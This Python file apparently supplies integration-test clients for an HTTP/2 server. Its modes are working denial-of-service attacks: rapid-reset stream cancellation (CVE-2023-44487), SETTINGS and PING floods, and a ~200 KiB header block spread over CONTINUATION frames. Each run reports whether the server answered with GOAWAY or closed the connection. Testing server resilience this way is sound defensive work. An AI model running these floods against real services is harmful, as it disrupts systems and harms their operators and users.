"""Abusive (and one ordinary) HTTP/2 cleartext clients for integration tests, over a plain TCP
socket with the h2 library: prior knowledge (h2c), no TLS.

  h2attack.py HOST PORT MODE [--count N] [--timeout S]

  rapid-reset     HEADERS (a GET) then RST_STREAM(CANCEL) on it, for --count streams (5000), as fast
                  as possible (CVE-2023-44487)
  settings-flood  --count SETTINGS frames (1000)
  ping-flood      --count PING frames (1000)
  big-headers     one GET whose header list is ~200 KiB (many large headers, a header block spread
                  over CONTINUATION frames)
  normal          one ordinary GET /, waits for the response

It reads the socket while it sends, so a GOAWAY is seen as soon as it comes, stops sending then,
and waits a little longer for the close. It never hangs: everything ends within --timeout (10 s).
Prints one JSON object:
  {"mode", "goaway": bool, "error_code": int|null, "last_stream_id": int|null, "closed": bool, "close_reason",
   "frames_sent": n, "sent_all": bool, "status": int|null and "reset_code": int|null (normal: the
   response's :status, or the RST_STREAM code if the stream was reset instead), "error": str|null}
closed: the server ended the connection (EOF or reset) before we gave up waiting; close_reason says how
("eof", "recv: <error>", "send: <error>", or "timeout" when --timeout ran out first).
"""

from __future__ import annotations

import argparse
import functools
import json
import os
import select
import socket
import struct
import time
from collections.abc import Callable
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
from h2.errors import ErrorCodes

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Closed(Exception):
    """The connection is over: GOAWAY received, EOF, reset, or our own deadline."""


class Attack:
    def __init__(self, host: str, port: int, timeout: float) -> None:
        self.host, self.port = host, port
        self.deadline = time.monotonic() + timeout
        self.sock = socket.create_connection((host, port), timeout=min(timeout, 5.0))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        config = h2.config.H2Configuration(client_side=True, header_encoding=None, validate_outbound_headers=False,
                                           normalize_outbound_headers=False)
        self.conn = h2.connection.H2Connection(config=config)
        self.out = b""
        self.frames_sent = 0
        self._preface_left = len(PREFACE)
        self._frame_left = 0  # bytes of the current outbound frame not yet counted past
        self._header_buf = b""
        self.result: dict[str, Any] = {"goaway": False, "error_code": None, "last_stream_id": None,
                                       "closed": False, "close_reason": None, "status": None,
                                       "reset_code": None, "error": None}
        self.responses: dict[int, int] = {}
        self.ended: set[int] = set()

    # -- output: queue what h2 made, count frames on the way out, send while reading --

    def _count(self, data: bytes) -> None:
        i = 0
        if self._preface_left:
            skip = min(self._preface_left, len(data))
            self._preface_left -= skip
            i = skip
        while i < len(data):
            if self._frame_left:
                skip = min(self._frame_left, len(data) - i)
                self._frame_left -= skip
                i += skip
                continue
            need = 9 - len(self._header_buf)
            self._header_buf += data[i:i + need]
            i += min(need, len(data) - i)
            if len(self._header_buf) == 9:
                length = struct.unpack(">I", b"\0" + self._header_buf[:3])[0]
                self.frames_sent += 1
                self._frame_left = length
                self._header_buf = b""

    def queue(self) -> None:
        data = self.conn.data_to_send()
        if data:
            self._count(data)
            self.out += data

    def pump(self, flush: bool = False, wait: float = 0.0) -> None:
        """Read whatever arrived and write what we can; with flush, until everything queued is written."""
        while True:
            if time.monotonic() > self.deadline:
                raise Closed("timeout")
            want_write = [self.sock] if self.out else []
            timeout = 0.05 if (flush and self.out) else wait
            readable, writable, _ = select.select([self.sock], want_write, [], timeout)
            if readable:
                self.read()
            if writable and self.out:
                try:
                    n = self.sock.send(self.out[:262144])
                except BlockingIOError:
                    n = 0
                except OSError as exc:
                    self.result["closed"] = True
                    self.drain()  # what the server said before it closed (its GOAWAY) is still readable
                    raise Closed(f"send: {exc}") from exc
                self.out = self.out[n:]
            if not flush or not self.out:
                return

    def drain(self) -> None:
        """After a failed send: read whatever is still queued on our side of the socket (Linux keeps
        received data readable after a reset), so a GOAWAY sent just before the close is not missed."""
        for _ in range(1000):
            try:
                data = self.sock.recv(262144)
            except OSError:
                return
            if not data:
                return
            self.feed(data)

    def read(self) -> None:
        try:
            data = self.sock.recv(262144)
        except BlockingIOError:
            return
        except OSError as exc:
            self.result["closed"] = True
            raise Closed(f"recv: {exc}") from exc
        if not data:
            self.result["closed"] = True
            raise Closed("eof")
        self.feed(data)

    def feed(self, data: bytes) -> None:
        if self.result["goaway"]:
            return  # the verdict is in; the rest is the server's leftovers
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.ProtocolError as exc:
            # our own state machine objects (a frame on a stream we reset, a GOAWAY we then tripped
            # over...): what matters is what the server said, so keep reading raw for GOAWAY.
            self._scan_goaway(data)
            self.result["error"] = self.result["error"] or f"h2: {type(exc).__name__}: {exc}"
            events = []
        for ev in events:
            if isinstance(ev, h2.events.ConnectionTerminated):
                code = None if ev.error_code is None else int(ev.error_code)
                self.result.update(goaway=True, error_code=code, last_stream_id=ev.last_stream_id)
            elif isinstance(ev, h2.events.ResponseReceived):
                for k, v in ev.headers:
                    if k == b":status":
                        self.responses[ev.stream_id] = int(v)
            elif isinstance(ev, h2.events.DataReceived):
                self.conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            elif isinstance(ev, h2.events.StreamEnded):
                self.ended.add(ev.stream_id)
            elif isinstance(ev, h2.events.StreamReset):
                self.ended.add(ev.stream_id)
                self.result["reset_code"] = int(ev.error_code)
        self.queue()

    def _scan_goaway(self, data: bytes) -> None:
        """Best effort: find a GOAWAY frame header (type 0x7, stream 0) in raw bytes h2 refused."""
        i = 0
        while i + 17 <= len(data):
            if data[i + 3] == 0x7 and data[i + 5:i + 9] == b"\0\0\0\0":
                last, code = struct.unpack(">II", data[i + 9:i + 17])
                self.result.update(goaway=True, error_code=code, last_stream_id=last & 0x7FFFFFFF)
                return
            i += 1

    def send(self, make: Callable[[], object]) -> bool:
        """Run one h2 action and push its bytes; False once the connection refuses more."""
        if self.result["goaway"]:
            return False
        try:
            make()
        except h2.exceptions.ProtocolError:
            return False
        self.queue()
        self.pump()
        return not self.result["goaway"]

    def linger(self, seconds: float) -> None:
        """After sending: everything out, then read until the server closes or time runs out."""
        self.pump(flush=True)
        end = min(self.deadline, time.monotonic() + seconds)
        while time.monotonic() < end:
            self.pump(wait=min(0.1, max(0.0, end - time.monotonic())))

    # -- the modes --

    def request_headers(self, extra: list[tuple[bytes, bytes]] | None = None) -> list[tuple[bytes, bytes]]:
        return [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", f"{self.host}:{self.port}".encode()),
                (b":path", b"/"), (b"user-agent", b"meshns-h2attack"), *(extra or [])]

    def run(self, mode: str, count: int) -> bool:
        self.conn.initiate_connection()
        self.queue()
        self.pump(flush=True)
        if mode == "rapid-reset":
            headers = self.request_headers()

            def open_and_cancel() -> None:
                sid = self.conn.get_next_available_stream_id()
                self.conn.send_headers(sid, headers, end_stream=True)
                self.conn.reset_stream(sid, ErrorCodes.CANCEL)

            return all(self.send(open_and_cancel) for _ in range(count))
        if mode == "settings-flood":
            settings: list[dict[h2.settings.SettingCodes | int, int]] = [
                {h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100 + i % 2} for i in range(count)]
            return all(self.send(functools.partial(self.conn.update_settings, s)) for s in settings)
        if mode == "ping-flood":
            return all(self.send(functools.partial(self.conn.ping, struct.pack(">Q", i))) for i in range(count))
        if mode == "big-headers":
            # 50 headers of 4 KiB of hex: ~200 KiB decoded, a header block far over one 16 KiB frame.
            extra = [(f"x-big-{i}".encode(), os.urandom(2048).hex().encode()) for i in range(50)]
            sid = self.conn.get_next_available_stream_id()
            # 16 KiB frames whatever the server allows (gRPC's allows 16 MiB): HEADERS + CONTINUATIONs.
            self.conn.max_outbound_frame_size = 16384
            return self.send(lambda: self.conn.send_headers(sid, self.request_headers(extra), end_stream=True))
        if mode == "normal":
            sid = self.conn.get_next_available_stream_id()
            if not self.send(lambda: self.conn.send_headers(sid, self.request_headers(), end_stream=True)):
                return False
            self.pump(flush=True)
            while sid not in self.ended:
                self.pump(wait=0.1)
            self.result["status"] = self.responses.get(sid)
            return True
        raise AssertionError(mode)


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("mode", choices=["rapid-reset", "settings-flood", "ping-flood", "big-headers", "normal"])
    ap.add_argument("--count", type=int, default=None, help="streams or frames (5000 resets, 1000 otherwise)")
    ap.add_argument("--timeout", type=float, default=10.0, help="the whole run, seconds")
    ap.add_argument("--linger", type=float, default=3.0, help="after sending, wait this long for a GOAWAY/close")
    args = ap.parse_args()
    count = args.count if args.count is not None else (5000 if args.mode == "rapid-reset" else 1000)
    result: dict[str, Any] = {"mode": args.mode}
    attack: Attack | None = None
    sent_all = False
    try:
        attack = Attack(args.host, args.port, args.timeout)
        sent_all = attack.run(args.mode, count)
        if args.mode != "normal":
            attack.linger(args.linger)
        else:
            attack.linger(0)
    except Closed as exc:
        if attack is not None:
            attack.result["close_reason"] = str(exc)
    except OSError as exc:
        result["error"] = f"connect: {exc}"
    if attack is not None:
        result.update(attack.result, frames_sent=attack.frames_sent)
        attack.sock.close()
    else:
        result.update(goaway=False, error_code=None, last_stream_id=None, closed=False, close_reason=None, status=None,
                      reset_code=None, frames_sent=0)
    result["sent_all"] = sent_all
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
